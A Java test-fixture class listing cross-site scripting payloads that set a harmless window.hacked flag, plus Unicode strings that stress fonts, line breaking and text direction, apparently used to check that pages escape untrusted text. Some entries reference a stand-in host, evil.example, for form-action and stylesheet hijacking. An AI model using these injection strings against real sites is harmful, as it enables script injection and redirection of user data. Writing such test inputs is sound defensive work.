package dev.earshot.support;

import java.util.List;

/** Text that breaks pages which trust it: markup and scripts, and text that breaks the layout. */
public final class HostileWords {
    /** Each sets {@code window.hacked} if it runs. */
    public static final List<String> SCRIPTS = List.of(
            "<script>window.hacked=1</script>",
            "</title></style></textarea><script>window.hacked=1</script>",
            "\"><img src=x onerror=window.hacked=1>",
            "'><svg/onload=window.hacked=1>",
            "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
            "<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
            "\" autofocus onfocus=window.hacked=1 x=\"",
            "' onmouseover='window.hacked=1' style='position:fixed;inset:0'",
            "</script><script>window.hacked=1</script><!--",
            "<!--<script>--><script>window.hacked=1</script>",
            "]]><script>window.hacked=1</script>",
            "<details open ontoggle=window.hacked=1><summary>x</summary></details>",
            "<a href=\"javascript:window.hacked=1\">read on</a>",
            "<a href=\"data:text/html,<script>opener.hacked=1</script>\">read on</a>",
            "javascript:window.hacked=1//",
            "&lt;script&gt;window.hacked=1&lt;/script&gt;",
            "&#60;script&#62;window.hacked=1&#60;/script&#62;",
            "<meta http-equiv=refresh content=\"0;url=javascript:window.hacked=1\">",
            "<base href=\"https://evil.example/\"><form action=//evil.example><button>Go</button></form>",
            "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
            "</main></body><body onload=window.hacked=1>",
            "${window.hacked=1} {{constructor.constructor('window.hacked=1')()}} !{1} @`x`",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
            "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
            "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
            "<ScRiPt/x>window.hacked=1</sCrIpT >",
            "<img/src='x'/onerror=window.hacked=1>",
            "<video><source onerror=window.hacked=1></video><audio src=x onerror=window.hacked=1>");

    /** Text that is hard on fonts, line breaking and text direction. */
    public static final List<String> SHAPES = List.of(
            "W".repeat(900),
            "word \u202e desrever si siht \u202d and this is not \u2066 nor this \u2069\u2069\u2069",
            "\u0645\u0631\u062d\u0628\u0627".repeat(60) + " hello " + "\u05e9\u05dc\u05d5\u05dd".repeat(60),
            "a" + "\u200b\u200d\ufeff\u2060".repeat(200) + "b",
            "Z" + "\u0321\u0353\u0489\u035c".repeat(40) + "algo",
            "\ufdfd\ud808\udc31".repeat(30),
            "\u00a0".repeat(400) + "far" + "\u2003".repeat(400) + "away",
            "i\u00ad".repeat(300),
            "/a/very/long/address/that/nobody/breaks?".repeat(20),
            "\u4e2d\u6587\u65b0\u805e".repeat(100));

    private HostileWords() {}
}
